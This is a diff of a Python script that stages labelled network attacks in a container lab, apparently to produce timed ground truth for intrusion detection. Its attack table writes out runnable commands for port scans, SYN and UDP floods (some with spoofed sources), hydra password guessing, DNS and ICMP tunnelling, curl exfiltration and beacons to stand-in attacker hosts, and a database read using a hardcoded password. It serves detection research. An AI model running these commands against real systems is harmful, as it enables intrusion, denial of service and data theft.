@@ -10,18 +10,17 @@ STATE = f"/run/lazaret-lab/{LAB}"
 HERE = os.path.dirname(os.path.abspath(__file__))
 ADDRESS = {f[1]: f[5] for f in map(str.split, open(HERE + "/topology.txt")) if f[:1] == ["box"]}
 WORKERS = [f"worker-{i}" for i in range(1, 9)]
-WORDS = "/tmp/words-%s.txt"
 
 # kind of label, who (containers, or one address outside), whom, command, and a BPF filter that the attack's own
 # packets match and the offender's normal traffic does not: it makes the label's times exact.
-# {A} is the offender's address, {i} its place in the list of offenders, {words} a list of N wrong passwords.
+# {A} is the offender's address, {M} its MAC address, {words} a file of N wrong passwords.
 ATTACKS = {
     "port-scan-fast": dict(who=["worker-3"], dst=["10.60.3.5"], what="1000 ports of the database host in seconds",
         run="nmap -n -Pn -sS -p 1-1000 --max-rate 300 10.60.3.5", filter="host {A} and host 10.60.3.5 and tcp and not port 5432"),
     "syn-flood": dict(who=["worker-1"], dst=["10.60.1.11"], what="4000 SYNs to the web front, own address",
         run="hping3 -q -n -S -p 80 -i u1000 -c 4000 10.60.1.11", filter="host {A} and host 10.60.1.11"),
     "exfil-slow": dict(who=["scheduler-1"], dst=["203.0.113.91"], what="40 uploads of 25 kB, one every 4 to 8 s",
-        run="bash -c 'RANDOM=7; for i in $(seq 40); do head -c 25000 /dev/urandom | curl -ks -m 5 -o /dev/null -T - https://203.0.113.91/n; sleep $((4 + RANDOM % 5)); done'",
+        run="bash -c 'RANDOM=7; for i in $(seq 40); do head -c 25000 /dev/urandom > /tmp/n; curl -ks -m 5 -o /dev/null -T /tmp/n https://203.0.113.91/n; sleep $((4 + RANDOM % 5)); done'",
         filter="host {A} and host 203.0.113.91"),
     "outside-scan": dict(label="port-scan-fast", who=["203.0.113.66"], dst=["10.60.1.11"], what="1000 ports of the web front, from outside",
         run="nmap -n -Pn -sS -p 1-1000 --max-rate 250 10.60.1.11", filter="host {A}"),
@@ -31,21 +30,21 @@ ATTACKS = {
         run="hping3 -q -n --udp -p 9999 -d 200 -i u1000 -c 4000 203.0.113.95", filter="host {A} and host 203.0.113.95"),
     "dns-tunnel": dict(who=["worker-2"], dst=["10.60.1.53"], server="203.0.113.70", what="iodine through the lab's resolver, a file moved inside",
         serve="iodined -f -c -P secret -l 203.0.113.70 172.31.254.1/27 t.attacker.example",
-        run="bash -c 'iodine -f -r -P secret -m 600 10.60.1.53 t.attacker.example >/tmp/iodine 2>&1 & t=$!; sleep 6; ping -c 4 172.31.254.1; head -c 40000 /dev/urandom | curl -s -m 28 -w \"%{size_upload} %{http_code}\\n\" -T - http://172.31.254.1/n; kill $t; cat /tmp/iodine'",
-        filter="host {A} and host 10.60.1.53 and udp port 53", bulk=True),
-    "ssh-guess": dict(label="ssh-password-guessing", who=["203.0.113.78"], dst=["10.60.1.22"], words=60, what="60 passwords for root",
+        run="bash -c 'iodine -f -r -P secret -m 600 10.60.1.53 t.attacker.example >/tmp/iodine 2>&1 & t=$!; sleep 6; head -c 160000 /dev/urandom > /tmp/n; curl -s -m 45 --limit-rate 6k -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n http://172.31.254.1/n; kill $t; cat /tmp/iodine'",
+        filter="host {A} and host 10.60.1.53 and udp port 53"),
+    "ssh-guess": dict(label="ssh-password-guessing", who=["203.0.113.78"], dst=["10.60.1.22"], words=30, what="30 passwords for root",
         run="hydra -I -t 4 -l root -P {words} ssh://10.60.1.22", filter="host {A}"),
     "beacon": dict(who=["backup-1"], dst=["203.0.113.92"], what="28 calls home, every 10 s give or take a quarter",
         run="bash -c 'RANDOM=5; for i in $(seq 28); do curl -ks -m 5 -o /dev/null https://cdn.attacker.example/poll; sleep $((7500 + RANDOM % 5000))e-3; done'",
         filter="host {A} and host 203.0.113.92"),
     "exfil-bulk": dict(who=["app-1"], dst=["203.0.113.90"], what="12 MB in one upload",
-        run="bash -c 'head -c 12000000 /dev/urandom | curl -ks -m 60 --limit-rate 1500k -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T - https://203.0.113.90/n'",
+        run="bash -c 'head -c 12000000 /dev/urandom > /tmp/n; curl -ks -m 60 --limit-rate 1500k -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n https://203.0.113.90/n'",
         filter="host {A} and host 203.0.113.90"),
-    "db-guess": dict(label="db-password-guessing", who=["worker-6"], dst=["10.60.3.5"], words=150, what="150 passwords for the superuser",
-        run="hydra -I -t 4 -l postgres -P {words} postgres://10.60.3.5/postgres", filter="host {A} and host 10.60.3.5 and tcp port 5432", bulk=True),
+    "db-guess": dict(label="db-password-guessing", who=["worker-6"], dst=["10.60.3.5"], words=400, what="400 passwords for the superuser",
+        run="hydra -I -t 2 -l postgres -P {words} postgres://10.60.3.5/postgres", filter="host {A} and host 10.60.3.5 and tcp port 5432"),
     "icmp-tunnel": dict(who=["worker-4"], dst=["203.0.113.80"], server="203.0.113.80", what="a file moved inside echo requests",
         serve="ptunnel-ng -r203.0.113.80 -R80",
-        run="bash -c 'ptunnel-ng -p203.0.113.80 -l8000 -r203.0.113.80 -R80 & t=$!; sleep 2; for i in 1 2 3; do head -c 150000 /dev/urandom | curl -s -m 12 -w \"%{size_upload} %{http_code}\\n\" -T - http://127.0.0.1:8000/n; sleep 3; done; kill $t'",
+        run="bash -c 'ptunnel-ng -p203.0.113.80 -l8000 -r203.0.113.80 -R80 & t=$!; sleep 2; head -c 150000 /dev/urandom > /tmp/n; for i in 1 2 3 4; do curl -s -m 12 -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n http://127.0.0.1:8000/n; sleep 3; done; kill $t'",
         filter="host {A} and icmp and host 203.0.113.80"),
     "lateral-movement": dict(who=["web-2"], dst=["10.60.3.5"], what="a web front reads the customers from the database it never used",
         run="bash -c 'export PGPASSWORD=shop-secret; psql -h 10.60.3.5 -U shop shop -c \"\\d\"; for i in 0 1 2 3 4 5; do psql -h 10.60.3.5 -U shop shop -Atc \"select * from person where mod(id, 6) = $i\" | wc; sleep 2; done'",
@@ -53,14 +52,14 @@ ATTACKS = {
     "port-scan-horizontal": dict(who=["app-2"], dst=["10.60.3.0/24", "10.60.1.0/24"], what="ports 22 and 3389 of 508 addresses",
         run="nmap -n -Pn -sS -p 22,3389 --max-retries 1 --max-rate 80 10.60.3.1-254 10.60.1.1-254", filter="host {A} and (tcp port 22 or tcp port 3389)"),
     "arp-sweep": dict(who=["monitor-1"], dst=["10.60.2.0/24"], what="who has each of 254 addresses",
-        run="nmap -n -sn -PR 10.60.2.1-254", filter="arp and ether src {M}", bulk=True),
+        run="nmap -n -sn -PR 10.60.2.1-254", filter="arp and ether src {M}"),
     "syn-flood-spoofed": dict(who=["worker-7"], dst=["10.60.1.12"], spoofed="198.18.0.0/16", what="3000 SYNs to the web front, random outside sources",
-        run="mausezahn eth0 -q -c 3000 -d 1m -A 198.18.0.0/16 -B 10.60.1.12 -b {G} -t tcp 'flags=syn,sp=1024-65000,dp=80'", filter="ether src {M} and src net 198.18.0.0/16"),
+        run="python3 /lab/spoof.py 198.18.0.0/16 10.60.1.12 80 3000 600", filter="ether src {M} and src net 198.18.0.0/16"),
     "port-scan-slow": dict(who=["report-1"], dst=["10.60.3.7"], what="90 ports of the store, one every 2 s",
         run="nmap -n -Pn -sS -p 8000-8089 --scan-delay 2s --max-scan-delay 2s --max-retries 0 10.60.3.7", filter="host {A} and host 10.60.3.7 and portrange 8000-8089"),
     "syn-flood-spoofed-local": dict(label="syn-flood-spoofed", who=["bastion-1"], dst=["10.60.2.11"], spoofed="10.60.1.128/25",
         what="2000 SYNs to the application, sources from the sender's own network",
-        run="mausezahn eth0 -q -c 2000 -d 2m -A 10.60.1.128/25 -B 10.60.2.11 -b {G} -t tcp 'flags=syn,sp=1024-65000,dp=8000'", filter="ether src {M} and src net 10.60.1.128/25"),
+        run="python3 /lab/spoof.py 10.60.1.128/25 10.60.2.11 8000 2000 300", filter="ether src {M} and src net 10.60.1.128/25"),
     "subnet-scan": dict(who=WORKERS, dst=["10.60.2.0/24"], prefix="10.60.4.0/26", what="all eight workers look for port 445 and 3389",
         run="nmap -n -Pn -sS -p 445,3389 --max-retries 0 --max-rate 15 10.60.2.1-254", filter="src net 10.60.4.0/26 and (tcp port 445 or tcp port 3389)"),
     "subnet-flood": dict(who=WORKERS, dst=["203.0.113.95"], prefix="10.60.4.0/26", what="all eight workers flood one host outside, 600 datagrams each",
@@ -73,20 +72,18 @@ def mac(address):
     return "02:42:" + ":".join(f"{int(x):02x}" for x in address.split("."))
 
 
+def tool(run):
+    return next(t for t in ("nmap", "hping3", "hydra", "iodine", "ptunnel-ng", "psql", "curl", "spoof.py") if t in run)
+
+
 def outside(*command):
     return ["nsenter", f"--net=/run/netns/{LAB}-evil", *command]
 
 
-def command_for(attack, kind, who, i):
+def command_for(attack, kind, who):
     address = ADDRESS.get(who, who)
-    gateway = "02:00:00:00:00:00"
-    if who in ADDRESS:
-        net = ".".join(address.split(".")[:3]) + ".1"
-        line = subprocess.check_output(["nsenter", f"--net=/run/netns/{LAB}-gw", "ip", "-br", "-4", "addr"], text=True)
-        nic = next(row.split()[0] for row in line.splitlines() if f" {net}/" in row)
-        gateway = subprocess.check_output(["nsenter", f"--net=/run/netns/{LAB}-gw", "ip", "-br", "link", "show", nic], text=True).split()[2]
-    words = WORDS % kind
-    run = attack["run"].replace("{A}", address).replace("{G}", gateway).replace("{words}", words).replace("{i}", str(i))
+    words = f"/tmp/words-{kind}.txt"
+    run = attack["run"].replace("{A}", address).replace("{words}", words)
     if "words" in attack:
         text = "\n".join(f"wrong{n:04d}" for n in range(attack["words"])) + "\n"
         where = ["docker", "exec", "-i", who] if who in ADDRESS else []
@@ -112,7 +109,7 @@ def main(kind):
     if "serve" in attack:
         server = subprocess.Popen(outside(*shlex.split(attack["serve"])), stdout=out, stderr=out)
         time.sleep(1)
-    commands = [command_for(attack, kind, who, i) for i, who in enumerate(attack["who"])]
+    commands = [command_for(attack, kind, who) for who in attack["who"]]
     start = time.time()
     running = [subprocess.Popen(c, stdout=out, stderr=out, stdin=subprocess.DEVNULL) for c in commands]
     deadline = start + 400
@@ -128,10 +125,9 @@ def main(kind):
     addresses = [ADDRESS.get(w, w) for w in attack["who"]]
     macs = [mac(a) for a, w in zip(addresses, attack["who"]) if w in ADDRESS]
     line = {"start": start, "end": end, "kind": attack.get("label", kind), "src": addresses, "dst": attack["dst"],
-            "offender": attack["who"], "mac": macs, "tool": attack["run"].removeprefix("bash -c ").split()[0] if not attack["run"].startswith("bash") else
-            next(t for t in ("iodine", "ptunnel-ng", "psql", "curl") if t in attack["run"]), "what": attack["what"],
+            "offender": attack["who"], "mac": macs, "tool": tool(attack["run"]), "what": attack["what"],
             "filter": attack["filter"].replace("{A}", addresses[0]).replace("{M}", macs[0] if macs else "")}
-    for key in ("spoofed", "prefix", "bulk"):
+    for key in ("spoofed", "prefix"):
         if key in attack:
             line[key] = attack[key]
     with open(f"{STATE}/attacks.jsonl", "a") as f:
